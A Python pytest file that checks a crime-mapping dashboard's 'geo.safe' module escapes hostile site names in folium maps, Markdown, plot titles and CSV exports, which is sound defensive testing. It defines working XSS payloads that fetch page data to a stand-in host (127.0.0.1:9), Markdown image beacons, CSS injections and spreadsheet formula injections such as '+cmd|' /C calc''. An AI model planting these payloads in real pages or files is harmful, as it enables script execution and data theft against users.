"""geo.safe: escaping of user- and file-supplied strings, and every map built from hostile names.

The attack strings are the ones of issue 10: a site named with a JavaScript template-literal
payload ran script in the Operations results map, and a workspace name / calls category
fetched an external image through Markdown.
"""
from __future__ import annotations

import io
import json
import re

import folium
import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import LineString, Point, box

from geo import maps, safe
from geo.errors import GeoInputError
from geo.hotspot_runs import add_hotspot_layer

# The exact payloads of the review, and friends.
JS_SITE = "Pharmacy ${fetch('http://127.0.0.1:9/x?'+window.parent.document.querySelector('[data-testid=stSidebar]').innerText)}"
IMG = "<img src=x onerror=\"fetch('http://127.0.0.1:9/img')\">"
SCRIPT = "</div><script>fetch('http://127.0.0.1:9/script')</script>"
TICK = "Shop `; fetch('http://127.0.0.1:9/tick'); ` \\"
MD_IMAGE = "Leeds ![x](http://127.0.0.1:9/md.png)"
HOSTILE = [JS_SITE, IMG, SCRIPT, TICK, MD_IMAGE]


# ------------------------------------------------------------------------------ HTML
@pytest.mark.parametrize("text", HOSTILE)
def test_html_text_leaves_no_markup(text):
    out = safe.html_text(text)
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    assert safe.html_text(None) == "" and safe.html_text(float("nan")) == ""


def test_html_text_round_trips_through_an_html_parser():
    from html.parser import HTMLParser

    class Collect(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.tags, self.text = [], ""

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)

        def handle_data(self, data):
            self.text += data

    for text in HOSTILE:
        p = Collect()
        p.feed(f"<div>{safe.js_html(text)}</div>")
        assert p.tags == ["div"] and p.text == text  # shown exactly, nothing parsed as a tag


@pytest.mark.parametrize("text", HOSTILE)
def test_js_html_cannot_leave_a_template_literal(text):
    out = safe.js_html(text)
    assert "`" not in out and "${" not in out and "\\" not in out and "<" not in out


def test_tooltip_of_the_review_payload_renders_inert():
    m = folium.Map(tiles=None)
    folium.PolyLine([(53.3, -1.5), (53.4, -1.4)], tooltip=safe.tooltip(f"224 m: near {JS_SITE}")).add_to(m)
    folium.CircleMarker((53.3, -1.5), popup=safe.popup(IMG + TICK)).add_to(m)
    html = m.get_root().render()
    assert "${fetch" not in html and "<img" not in html and "`; fetch" not in html
    assert "near Pharmacy &#36;{fetch(&#x27;http://127.0.0.1:9/x?" in html  # shown, as text


def test_raw_string_tooltips_and_popups_are_escaped_by_the_offline_map():
    """A page that passes a plain f-string to folium (as the results map did) is still safe."""
    m = maps.base_map((-1.5, 53.3, -1.4, 53.4))
    folium.PolyLine([(53.3, -1.5), (53.4, -1.4)], tooltip=f"224 m: near {JS_SITE}").add_to(m)
    folium.CircleMarker((53.3, -1.5), tooltip="new hot spot: " + IMG, popup=TICK + SCRIPT).add_to(m)
    folium.CircleMarker((53.3, -1.5), tooltip=safe.tooltip("A & B")).add_to(m)
    html = maps.finish(m).get_root().render()
    assert "${fetch" not in html and "<img" not in html and "<script>fetch" not in html
    assert "`; fetch" not in html and "\\`; fetch" not in html
    assert "new hot spot: &lt;img src=x" in html
    assert "A &amp; B" in html and "A &amp;amp; B" not in html  # escaped once, not twice
    html2 = m.get_root().render()  # rendering again does not escape again
    assert "A &amp;amp; B" not in html2 and html2.count("&amp;#36;") == 0


# -------------------------------------------------------------------------- Markdown
_MD_ACTIVE = re.compile(r"(?<!\\)[!\[\]()<>*_`#$:~|&]")


@pytest.mark.parametrize("text", HOSTILE + [":red[alert]", "$x^2$", "# heading", "a\n\n# b", "*em* _u_ ~~s~~",
                                            "<b>x</b>", "[link](javascript:alert(1))", "&lt;", ":material/flag:"])
def test_md_escapes_every_active_character(text):
    out = safe.md(text)
    assert not _MD_ACTIVE.search(out), out
    assert "\n" not in out
    # removing the escapes gives the text back (runs of line breaks as one space)
    assert re.sub(r"\\(.)", r"\1", out) == re.sub(r"\n+", " ", text)


def test_md_of_the_confirmed_image_attack():
    assert safe.md(MD_IMAGE) == r"Leeds \!\[x\]\(http\:\/\/127\.0\.0\.1\:9\/md\.png\)"
    assert safe.md(None) == ""


def test_md_code_cannot_be_closed_from_inside():
    assert safe.md_code("x.gpkg") == "`x.gpkg`"
    assert safe.md_code("a`b") == "`` a`b ``"
    assert safe.md_code("a``b`") == "``` a``b` ```"


def test_mpl_text_escapes_dollars():
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig, ax = plt.subplots()
    ax.set_title(safe.mpl_text("Op $\\frac{1}$"))  # unescaped, mathtext would fail to parse
    fig.savefig(io.BytesIO(), format="png")
    plt.close(fig)


# ------------------------------------------------------------------------------- CSV
@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")", "+cmd|' /C calc'!A0",
                                  "-2+3", "-3 stolen bikes", "@SUM(A1:A9)", "\tx", "\r=1", "  =1+1",
                                  "\uff1dcmd"])
def test_csv_cell_neutralises_formulas(cell):
    assert safe.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Pharmacy", "-3", "+44", "-1.5e3", ".5", "", "3-4 Church St", "a=b", None,
                                  -3, -3.5, np.int64(-7), True])
def test_csv_cell_keeps_numbers_and_plain_text(cell):
    assert safe.csv_cell(cell) is cell or safe.csv_cell(cell) == cell


def test_csv_text_neutralises_text_columns_only():
    frame = pd.DataFrame({
        "location": ["=HYPERLINK(\"http://127.0.0.1:9\")", "On or near Park Road", "-3 ..."],
        "count": [-3, 4, 5], "harm": [-1.5, 0.0, 2.0], "flag": [True, False, True],
        "category": pd.Categorical(["@x", "Robbery", "Robbery"]),
        "notes": ["+1", None, "-3"],
    })
    back = pd.read_csv(io.StringIO(safe.csv_text(frame)), keep_default_na=False)
    assert back["location"].tolist() == ["'=HYPERLINK(\"http://127.0.0.1:9\")", "On or near Park Road", "'-3 ..."]
    assert back["count"].tolist() == [-3, 4, 5] and back["harm"].tolist() == [-1.5, 0.0, 2.0]
    assert back["category"].tolist() == ["'@x", "Robbery", "Robbery"]
    assert back["notes"].tolist() == ["+1", "", -3] or back["notes"].astype(str).tolist() == ["+1", "", "-3"]
    assert frame["location"].iloc[0].startswith("=")  # the caller's frame is not changed


def test_csv_neutralises_column_names_and_geometry_becomes_wkt():
    frame = gpd.GeoDataFrame({"=cmd": ["a"]}, geometry=[Point(1, 2)], crs=27700)
    text = safe.csv_text(frame)
    assert text.splitlines()[0] == "'=cmd,geometry" and "POINT (1 2)" in text
    assert safe.csv_bytes(frame) == text.encode("utf-8")


def test_write_csv(tmp_path):
    out = safe.write_csv(pd.DataFrame({"name": ["=1+1"]}), tmp_path / "x.csv")
    assert out.read_text(encoding="utf-8") == "name\n'=1+1\n"


# ------------------------------------------------------------------ every map, hostile
X0, Y0 = 429_000, 433_000
FORBIDDEN = ["${fetch", "<img", "\\u003cimg", "<script>fetch", "\\u003cscript", "`; fetch", "\\u0060; fetch",
             "\\`; fetch"]


def _hostile_frames():
    names = [JS_SITE, IMG, SCRIPT, TICK]
    cells = gpd.GeoDataFrame(
        {"name": names, "harm": [1.0, 2.0, 3.0, 4.0], "count": [1, 2, 3, 4]},
        geometry=[box(X0 + i * 250, Y0, X0 + (i + 1) * 250, Y0 + 250) for i in range(4)], crs=27700)
    points = gpd.GeoDataFrame(
        {"category": names * 3, "location": [IMG] * 12, "month": ["2024-01"] * 12, "date": [TICK] * 12},
        geometry=[Point(X0 + 20 * i, Y0 + 30) for i in range(12)], crs=27700)
    sites = gpd.GeoDataFrame({"name": names, "kind": ["pharmacy", IMG, "school", JS_SITE]},
                             geometry=[Point(X0 + 100 * i, Y0 + 100) for i in range(4)], crs=27700)
    return cells, points, sites


def _assert_inert(html: str):
    low = html.lower()
    for bad in FORBIDDEN:
        assert bad.lower() not in low, f"unescaped payload {bad!r} in the map"
    assert "127.0.0.1:9" in html  # the names are on the map, as text


def test_every_map_layer_escapes_hostile_names():
    cells, points, sites = _hostile_frames()
    m = maps.base_map(maps.wgs84_bounds(cells))
    maps.add_choropleth(m, cells, "harm", name=f"Harm by {IMG}", label=JS_SITE, tooltip_fields=["name", "count"])
    maps.add_categories(m, cells.assign(cls=["a", "b", "a", "b"]), "cls", {"a": "#f00", "b": "#00f"},
                        name=TICK, title=SCRIPT, tooltip_fields=[("name", IMG), ("cls", "Class")])
    maps.add_points(m, points, name=f"Incidents {JS_SITE}", color_by="category",
                    tooltip_fields=["category", "month", "location"], max_points=100)
    maps.add_points(m, points, name="Calls", tooltip_fields=["category", "date"], max_points=3)  # clustered
    maps.add_sites(m, sites, buffers_m=(200, 400), name=f"Sites {IMG}")
    maps.add_boundaries(m, cells, name=f"Wards {SCRIPT}", name_col="name")
    maps.add_areas(m, cells, name="Operation target areas", name_col="name")
    maps.add_legend(m, JS_SITE, [("#f00", IMG), ("rgb(1, 2, 3)", TICK), ("grey", SCRIPT)])
    _assert_inert(maps.finish(m).get_root().render())


@pytest.mark.parametrize("color", ["red;background:url(http://127.0.0.1:9/c)", "#fff\"><img src=x>", "expression(1)"])
def test_legend_refuses_a_colour_that_is_not_a_colour(color):
    m = maps.base_map((-1.5, 53.3, -1.4, 53.4))
    with pytest.raises(GeoInputError, match="not a CSS colour"):
        maps.add_legend(m, "Title", [(color, "label")])


def test_hotspot_layers_escape_hostile_categories():
    cells, _, _ = _hostile_frames()
    layer = cells.assign(**{"class": ["Cluster: top 5 by harm"] * 4, "cluster_id": [1, 2, 3, 4], "n": [5, 6, 7, 8],
                            "top_categories": [JS_SITE, IMG, SCRIPT, TICK]})
    m = maps.base_map(maps.wgs84_bounds(cells))
    add_hotspot_layer(m, layer, classes=("Cluster: top 5 by harm",), method="dbscan", name=IMG, title=JS_SITE)
    add_hotspot_layer(m, layer, classes=("Cluster: top 5 by harm",), method="dbscan", name="merged",
                      title=TICK, max_polygons=1)
    _assert_inert(maps.finish(m).get_root().render())


def test_results_map_hot_spot_moves_escape_site_names():
    """The results map's arrows: flags carry site names (the stored-XSS route of the review)."""
    moves = gpd.GeoDataFrame(
        {"kind": ["moved", "new"], "distance_m": [224.0, 0.0],
         "flag": [f"displacement towards a pharmacy ({JS_SITE}, 224 m)",
                  f"new hot spot inside the target near a school ({IMG}, 0 m)"]},
        geometry=[LineString([(X0, Y0), (X0 + 300, Y0 + 300)]), Point(X0 + 500, Y0 + 500)], crs=27700)
    m = maps.base_map(maps.wgs84_bounds(moves))
    layer = folium.FeatureGroup(name="Hot spot moves")
    moved = moves[moves["kind"] == "moved"].to_crs(4326)
    for geom, dist, flag in zip(moved.geometry, moved["distance_m"], moved["flag"]):
        pts = [(lat, lon) for lon, lat in geom.coords]
        # exactly what dashboard/app_pages/operations.py does, and the raw f-string it used to pass
        folium.PolyLine(pts, tooltip=safe.tooltip(f"{dist:,.0f} m: {flag}")).add_to(layer)
        folium.PolyLine(pts, tooltip=f"{dist:,.0f} m: {flag}").add_to(layer)
    new = moves[moves["kind"] == "new"].to_crs(4326)
    for geom, flag in zip(new.geometry, new["flag"]):
        folium.CircleMarker((geom.y, geom.x), tooltip=safe.tooltip("new hot spot: " + flag)).add_to(layer)
    layer.add_to(m)
    html = maps.finish(m).get_root().render()
    _assert_inert(html)
    assert html.count("displacement towards a pharmacy (Pharmacy &#36;{fetch(") == 2


def test_standalone_export_is_inert_too():
    cells, _, sites = _hostile_frames()
    m = maps.base_map(maps.wgs84_bounds(cells))
    maps.add_sites(m, sites)
    html = maps.render_standalone(m)
    for bad in ("${fetch", "<img src=x", "\\u003cimg"):
        assert bad not in html


def test_geojson_tooltip_values_reach_the_page_escaped_once():
    cells, _, _ = _hostile_frames()
    m = maps.base_map(maps.wgs84_bounds(cells))
    maps.add_areas(m, cells.iloc[[1]], name="Areas", name_col="name")
    html = m.get_root().render()
    data = re.search(r'"_t0": "([^"]*)"', html)
    assert data is not None
    value = json.loads(f'"{data.group(1)}"')
    assert value == safe.html_text(IMG)  # innerHTML of this shows the original text


def test_cli_rejected_rows_file_neutralises_formulas(tmp_path):
    """``python -m geo import --rejected-out``: a hostile file name in the ``file`` column is neutralised."""
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    from tests.conftest import sy_street_csv
    jan = sy_street_csv("2024-01")
    lines = jan.read_text(encoding="utf-8").splitlines()
    bad = lines[1].split(",")
    bad[9] = "=HYPERLINK(\"http://127.0.0.1:9\")"  # Crime type: rejected as an unknown category
    crime = tmp_path / "=SUM(1+1)-street.csv"
    crime.write_text("\n".join([lines[0], lines[1], ",".join(bad)]) + "\n", encoding="utf-8")
    import os
    r = subprocess.run([sys.executable, "-m", "geo", "import", "--workspace", "ws.gpkg", "--crime", crime.name,
                        "--rejected-out", "rej.csv"], cwd=tmp_path, capture_output=True, text=True,
                       env={**os.environ, "PYTHONPATH": str(root)})
    assert r.returncode == 0, r.stderr
    rej = pd.read_csv(tmp_path / "rej.csv")
    assert rej["file"].tolist() == ["'=SUM(1+1)-street.csv"]
    assert rej["reason"].tolist() == ["unknown category"]
    assert "=HYPERLINK" in rej["raw"].iloc[0]  # the raw row is kept (JSON text, not a formula)


def test_every_csv_the_product_writes_goes_through_geo_safe():
    """No module of the product writes CSV with pandas directly (it would skip the formula check)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    offenders = []
    for folder in ("geo", "dashboard"):
        for path in (root / folder).rglob("*.py"):
            if path.name == "safe.py":
                continue
            for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line):
                    offenders.append(f"{path.relative_to(root)}:{i}: {line.strip()}")
    assert not offenders, "use geo.safe.csv_bytes / csv_text / write_csv:\n" + "\n".join(offenders)


def test_csv_neutralises_a_pivot_with_hostile_labels():
    frame = pd.DataFrame({"area": ["=A", "B"], "cat": ["-x", "@y"], "n": [1, -2]})
    pivot = frame.pivot_table(index="area", columns="cat", values="n", aggfunc="sum")
    text = safe.csv_text(pivot, index=True)
    assert "'=A" in text and "'-x" in text and "'@y" in text and "-2" in text
    assert "\n=A" not in text and ",-x" not in text
